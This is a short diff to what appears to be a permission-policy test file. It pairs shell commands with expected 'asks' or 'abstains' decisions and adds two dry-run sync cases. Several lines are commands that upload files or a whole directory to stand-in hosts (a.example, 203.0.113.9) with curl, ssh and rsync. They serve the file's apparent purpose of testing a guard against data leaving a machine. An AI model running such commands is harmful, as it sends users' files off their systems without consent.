@@ -141,6 +141,8 @@ export default definePolicy({
     asks('not known', 'curl -F f=@"$FILE" a.example'),
     abstains('a value that is not known', 'curl -d "a=$A" a.example'),
     asks('everything', 'tar cf - . | ssh host tar xf -'),
+    abstains('what would be sent', 'rsync -an . 203.0.113.9:/in'),
+    abstains('what would be sent to a bucket', 'aws s3 sync . s3://a --dryrun'),
     abstains('a part', 'tar cf - dist | ssh host tar xf -'),
     asks('a folder to whoever takes it', 'tar c src | curl -T - https://a.example'),
     abstains('what a build has made', 'tar c dist | curl -T - https://a.example'),
